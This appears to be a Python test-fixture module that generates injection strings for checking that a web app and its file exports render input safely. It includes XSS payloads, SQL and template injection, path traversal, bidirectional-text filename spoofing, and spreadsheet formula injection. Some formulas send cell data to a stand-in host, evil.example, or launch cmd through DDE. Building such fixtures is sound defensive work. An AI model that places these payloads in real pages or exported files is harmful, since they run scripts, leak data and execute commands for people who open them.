"""Text that a page or a file might take for more than text.

SHOWN: 60 strings, each with a mark of its own, H00 to H59, where it would do its harm.
EXPORTED: 200 strings, those 60 among them, for whatever is written to a file.
"""

from itertools import product

_TEMPLATES = [
    # HTML
    "<script>alert('H##')</script>",
    "<script src=//evil.example/H##.js></script>",
    "<img src=x onerror=alert('H##')>",
    '"><img src=//evil.example/H##.png>',
    "<svg onload=alert('H##')><circle r=9></svg>",
    '<iframe src="//evil.example/H##"></iframe>',
    "<a href=\"javascript:alert('H##')\">H##</a>",
    "<b onmouseover=alert('H##')>H##</b>",
    "<style>*{display:none}</style>H##",
    "<link rel=stylesheet href=//evil.example/H##.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/H##'>",
    "<form action=//evil.example/H##><button>H##</button></form>",
    "<details open ontoggle=alert('H##')>H##</details>",
    "<math><mi href=//evil.example/H##>H##</mi></math>",
    "</div></main></body>H##",
    "<!-- H## --><!doctype html>H##",
    "' onfocus=alert('H##') autofocus='",
    "&lt;script&gt;alert('H##')&lt;/script&gt;",
    "&#60;img src=x onerror=H##&#62; &amp; &nbsp; &copy;",
    # Markdown
    "[H##](http://evil.example/H##)",
    "![H##](http://evil.example/H##.png)",
    "[H##](javascript:alert('H##'))",
    "<http://evil.example/H##>",
    "http://evil.example/H##",
    "www.evil.example/H##",
    "H##@evil.example",
    "**H##** __H##__ ~~H##~~ *H##* _H##_",
    "# H##",
    "> H##",
    "- H##",
    "1. H##",
    "`H##` ```H##```",
    "    H## set in",
    "| H## | b |\n|---|---|\n| c | d |",
    "H##[^1] and [ref][H##]",
    "--- H## ---",
    "- [x] H##",
    # Streamlit's additions to it
    ":red[H##] :blue-background[H##]",
    ":material/home: H## :streamlit:",
    ":smile: H## :+1:",
    ":small[H##] :orange-badge[H##]",
    "$H##$ and $$x^2 H##$$",
    "\\(H##\\) \\[H##\\] \\frac{H##}{2}",
    "H## -> <- <-- --> -- >= <= ~=",
    # templates, expressions and names
    "{{ 7*7 }} H## {% raw %}",
    "${H##} #{H##} <%= H## %> %s %d {0} {name}",
    "datum.H## + signal('x') length(data('source'))",
    "H##.a:b[0].c:Q",
    "\\u003cscript\\u003e H## \\x3c",
    "'; drop table event; -- H##",
    "../../etc/H## ..\\H##",
    # scripts and signs
    "H## \u202eevil\u202c gpj.exe",
    "H## \u202efdp.exe",
    "\u2066H##\u2069 \u2067\u05d0\u05d1\u2069 \u061c\u200f",
    "H## \u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "H##\u200b\u200d\u2060\ufeffzero",
    "Z\u0351\u036b\u0343\u036aa\u0358\u0345\u0327 H## e\u0301",
    "H## \u5317\u4eac \U0001f642 \U0001f469\u200d\U0001f52c \U0001f1ec\U0001f1e7",
    "H##" + "W" * 180,
    "null H## NaN undefined None N/A -0",
]

SHOWN = [text.replace("H##", f"H{number:02}") for number, text in enumerate(_TEMPLATES)]

_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_FORMULAS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"press")',
    'WEBSERVICE("http://evil.example/")',
    'IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
)
_BEFORE = (" ", "\u00a0", "\u200b", "\ufeff", "\t", "\r", "\n", "\0")
_BETWEEN = ("a;", "a\t", "a\n", "a\r\n", "a,", 'a";"', "a'; '")
_ODD = [
    "0000123",
    "1.1E+08",
    "12345678901234567890",
    "1/2",
    "MARCH1",
    "TRUE",
    "#REF!",
    "_x0041_",
    "{=1+1}",
    "'quoted",
    '"quoted"',
    "mailto:a@evil.example",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "bell \x07 escape \x1b[31m",
    "line\u2028paragraph\u2029end",
    "sep=;",
    "#eval(\"1+1\") #read(\"/etc/passwd\")",
    "@ref *strong* = heading",
    "+44 20 7946 0000",
    "%0A=1+1",
    "\u202e=1+1",
    "--1+1",
    "+-@=1",
    "=\u202e1+1",
]  # fmt: skip

EXPORTED = [
    *SHOWN,
    *(sign + formula for sign, formula in product(_SIGNS, _FORMULAS)),
    *(before + sign + "1+1" for before, sign in product(_BEFORE, "=+-@"[:4])),
    *(between + sign + "1+1" for between, sign in product(_BETWEEN, _SIGNS[:5])),
    *_ODD,
]


def packed(texts, most, between=" ¦ "):
    """The texts in cells of as many as `most` characters hold."""
    cells = [texts[0]]
    for text in texts[1:]:
        longer = cells[-1] + between + text
        cells[-1:] = [longer] if len(longer) <= most else [cells[-1], text]
    return cells


def named(text):
    """The text as the name of a file, which has no folder in it, and is cut when it is long."""
    return text.replace("/", "∕").replace("\\", "∖")[:100]
